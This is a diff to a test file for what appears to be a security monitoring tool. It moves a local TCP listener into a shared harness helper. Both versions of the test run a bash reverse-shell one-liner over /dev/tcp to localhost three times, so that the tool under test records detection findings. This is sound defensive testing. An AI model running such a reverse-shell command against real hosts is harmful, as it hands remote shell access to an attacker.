@@ -6,10 +6,9 @@
 import { afterEach, describe, expect, it } from "vitest";
 import { spawn, type ChildProcess } from "node:child_process";
 import { mkdtempSync, writeFileSync } from "node:fs";
-import net from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { kernelTier, run } from "./harness.js";
+import { kernelTier, run, tcpListener } from "./harness.js";
 
 const tier = kernelTier();
 const CLI = "dist/cli/main.js";
@@ -55,13 +54,9 @@ describe.runIf(tier.run)("kernel: health", () => {
     expect(await readyz.json()).toMatchObject({ status: "ready", live: true, ready: true, degraded: false, reasons: [] });
 
     // Three reverse shells: three findings for a webhook queue of one.
-    const sockets = new Set<net.Socket>();
-    const server = net.createServer((s) => { sockets.add(s); s.on("error", () => {}); s.end("exit\n"); });
-    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
-    const port = (server.address() as net.AddressInfo).port;
-    for (let i = 0; i < 3; i++) await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
-    for (const s of sockets) s.destroy();
-    server.close();
+    const listener = await tcpListener("127.0.0.1", "exit\n");
+    for (let i = 0; i < 3; i++) await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`]);
+    await listener.close();
 
     let report: Report | undefined;
     await until(async () => {
